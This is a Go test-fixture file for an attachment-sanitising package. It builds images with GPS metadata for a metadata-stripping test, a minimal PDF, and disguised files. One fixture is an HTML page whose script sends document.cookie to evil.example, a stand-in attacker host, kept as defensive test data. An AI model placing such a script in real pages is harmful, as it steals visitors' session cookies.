package attachment

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"testing"
)

// This file builds real test files in code: images from the standard
// encoders with metadata spliced in by hand, so every byte a test asserts on
// is visible here.

// testImage is a small gradient, so that the scan data is not trivial.
func testImage(w, h int) *image.NRGBA {
	img := image.NewNRGBA(image.Rect(0, 0, w, h))
	for y := range h {
		for x := range w {
			img.Set(x, y, color.NRGBA{uint8(x * 255 / w), uint8(y * 255 / h), uint8((x + y) * 7), 255})
		}
	}
	return img
}

// encodeJPEG returns a baseline JPEG from image/jpeg: SOI DQT SOF0 DHT SOS
// … EOI, with no APPn segment.
func encodeJPEG(t testing.TB, w, h int) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := jpeg.Encode(&b, testImage(w, h), &jpeg.Options{Quality: 80}); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// encodePNG returns a PNG from image/png: signature IHDR IDAT… IEND.
func encodePNG(t testing.TB, w, h int) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := png.Encode(&b, testImage(w, h)); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// segment returns a JPEG marker segment with the given payload.
func segment(marker byte, payload []byte) []byte {
	s := []byte{0xff, marker}
	s = binary.BigEndian.AppendUint16(s, uint16(len(payload)+2))
	return append(s, payload...)
}

// concat joins byte slices into a new one.
func concat(parts ...[]byte) []byte {
	return bytes.Join(parts, nil)
}

// Byte sequences of the GPS data in tiffWithGPS that must not survive Clean.
var (
	// gpsInfoEntry is IFD0's GPSInfo (0x8825) entry, type LONG, count 1,
	// without its offset.
	gpsInfoEntry = []byte{0x25, 0x88, 0x04, 0x00, 0x01, 0x00, 0x00, 0x00}
	// gpsLatitude is the latitude 39° 54′ 27.00″ as three RATIONALs.
	gpsLatitude = rationals(39, 1, 54, 1, 2700, 100)
	// gpsLongitude is the longitude 116° 23′ 29.00″ as three RATIONALs.
	gpsLongitude = rationals(116, 1, 23, 1, 2900, 100)
)

// rationals encodes little-endian TIFF RATIONAL values (num, den pairs).
func rationals(v ...uint32) []byte {
	var b []byte
	for _, x := range v {
		b = binary.LittleEndian.AppendUint32(b, x)
	}
	return b
}

// tiffWithGPS builds a minimal little-endian TIFF/Exif structure: IFD0 with
// Make and a GPSInfo pointer, and a GPS IFD with latitude and longitude.
func tiffWithGPS() []byte {
	le := binary.LittleEndian
	entry := func(b []byte, tag, typ uint16, count, value uint32) []byte {
		b = le.AppendUint16(b, tag)
		b = le.AppendUint16(b, typ)
		b = le.AppendUint32(b, count)
		return le.AppendUint32(b, value)
	}
	const (
		ascii    = 2
		long     = 4
		rational = 5
		ifd0     = 8
		gpsIFD   = ifd0 + 2 + 2*12 + 4 // 38
		latAt    = gpsIFD + 2 + 4*12 + 4
		lonAt    = latAt + 24
	)
	b := []byte("II*\x00")
	b = le.AppendUint32(b, ifd0)
	b = le.AppendUint16(b, 2)
	b = entry(b, 0x010f, ascii, 4, le.Uint32([]byte("Cam\x00"))) // Make
	b = entry(b, 0x8825, long, 1, gpsIFD)                        // GPSInfo
	b = le.AppendUint32(b, 0)                                    // no IFD1
	b = le.AppendUint16(b, 4)
	b = entry(b, 0x0001, ascii, 2, le.Uint32([]byte("N\x00\x00\x00"))) // GPSLatitudeRef
	b = entry(b, 0x0002, rational, 3, latAt)                           // GPSLatitude
	b = entry(b, 0x0003, ascii, 2, le.Uint32([]byte("E\x00\x00\x00"))) // GPSLongitudeRef
	b = entry(b, 0x0004, rational, 3, lonAt)                           // GPSLongitude
	b = le.AppendUint32(b, 0)
	b = append(b, gpsLatitude...)
	b = append(b, gpsLongitude...)
	if len(b) != lonAt+24 {
		panic(fmt.Sprintf("tiffWithGPS: built %d bytes, offsets assume %d", len(b), lonAt+24))
	}
	return b
}

// exifMarker starts the payload of an Exif APP1 segment.
var exifMarker = []byte("Exif\x00\x00")

// JPEG segments spliced into test images.
var (
	app0JFIF  = segment(0xe0, []byte("JFIF\x00\x01\x01\x01\x00\x48\x00\x48\x00\x00"))
	app1Exif  = segment(0xe1, concat(exifMarker, tiffWithGPS()))
	app1XMP   = segment(0xe1, []byte("http://ns.adobe.com/xap/1.0/\x00<x:xmpmeta><exif:GPSLatitude>39,54.45N</exif:GPSLatitude></x:xmpmeta>"))
	app2ICC   = segment(0xe2, concat([]byte("ICC_PROFILE\x00\x01\x01"), bytes.Repeat([]byte{0x42}, 40)))
	app13IPTC = segment(0xed, []byte("Photoshop 3.0\x008BIM\x04\x04\x00\x00\x00\x00\x00\x0c\x1c\x02\x5a\x00\x07Beijing"))
	comment   = segment(0xfe, []byte("made by a test"))
)

// jpegWithMetadata splices metadata segments into a plain JPEG right after
// SOI and returns it with the bytes Clean should produce.
func jpegWithMetadata(t testing.TB, w, h int) (dirty, clean []byte) {
	plain := encodeJPEG(t, w, h)
	soi, rest := plain[:2], plain[2:]
	dirty = concat(soi, app0JFIF, app1Exif, app2ICC, app1XMP, app13IPTC, comment, rest)
	clean = concat(soi, app0JFIF, app2ICC, comment, rest)
	return dirty, clean
}

// pngChunkBytes returns a PNG chunk with a correct CRC.
func pngChunkBytes(typ string, body []byte) []byte {
	b := binary.BigEndian.AppendUint32(nil, uint32(len(body)))
	b = append(b, typ...)
	b = append(b, body...)
	return binary.BigEndian.AppendUint32(b, crc32.ChecksumIEEE(b[4:]))
}

// PNG chunks spliced into test images.
var (
	pngGAMA = pngChunkBytes("gAMA", []byte{0, 0, 0xb1, 0x8f})
	pngPHYS = pngChunkBytes("pHYs", []byte{0, 0, 0x0b, 0x13, 0, 0, 0x0b, 0x13, 1})
	pngTIME = pngChunkBytes("tIME", []byte{0x07, 0xe9, 5, 1, 12, 0, 0})
	pngEXIF = pngChunkBytes("eXIf", tiffWithGPS())
	pngTEXT = pngChunkBytes("tEXt", []byte("Comment\x00taken at home, 39.9075N 116.3914E"))
	pngZTXT = pngChunkBytes("zTXt", []byte("Author\x00\x00\x78\x9c\x03\x00\x00\x00\x00\x01"))
	pngITXT = pngChunkBytes("iTXt", []byte("XML:com.adobe.xmp\x00\x00\x00\x00\x00<x:xmpmeta/>"))
)

// pngWithMetadata splices chunks into a plain PNG right after IHDR and
// returns it with the bytes Clean should produce.
func pngWithMetadata(t testing.TB, w, h int) (dirty, clean []byte) {
	plain := encodePNG(t, w, h)
	const ihdrEnd = 8 + 12 + 13
	head, rest := plain[:ihdrEnd], plain[ihdrEnd:]
	dirty = concat(head, pngGAMA, pngTEXT, pngPHYS, pngEXIF, pngITXT, pngZTXT, pngTIME, rest)
	clean = concat(head, pngGAMA, pngPHYS, pngTIME, rest)
	return dirty, clean
}

// tinyPDF is a minimal one-page PDF with a correct cross-reference table.
func tinyPDF() []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
	objs := []string{
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
	}
	offsets := make([]int, len(objs))
	for i, o := range objs {
		offsets[i] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	xref := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objs)+1)
	for _, off := range offsets {
		fmt.Fprintf(&b, "%010d 00000 n \n", off)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objs)+1, xref)
	return b.Bytes()
}

// Files that pretend to be something they are not.
var (
	elfBinary = concat([]byte("\x7fELF\x02\x01\x01\x00"), make([]byte, 56))
	mzBinary  = concat([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"), make([]byte, 50), []byte("This program cannot be run in DOS mode.\r\r\n$"))
	htmlPage  = []byte("<!DOCTYPE html>\n<html><body><script>document.location='https://evil.example/?c='+document.cookie</script></body></html>\n")
)

// progressiveJPEG is a hand-built JPEG marker structure as a progressive
// encoder writes it: two scans with tables and an Exif APP1 between them.
// It is not decodable; it exercises the parser only.
func progressiveJPEG() (dirty, clean []byte) {
	sof2 := segment(0xc2, []byte{8, 0, 1, 0, 1, 1, 1, 0x11, 0})
	dht := segment(0xc4, []byte{0x00, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0})
	sos := segment(0xda, []byte{1, 1, 0x00, 0, 63, 0})
	scan1 := []byte{0x12, 0xff, 0x00, 0x34, 0xff, 0xd0, 0x56} // stuffed byte, restart marker
	scan2 := []byte{0x78, 0xff, 0x00, 0x9a}
	eoi := []byte{0xff, 0xff, 0xd9} // with a fill byte
	soi := []byte{0xff, 0xd8}
	dirty = concat(soi, sof2, dht, sos, scan1, dht, app1Exif, sos, scan2, eoi)
	clean = concat(soi, sof2, dht, sos, scan1, dht, sos, scan2, eoi)
	return dirty, clean
}
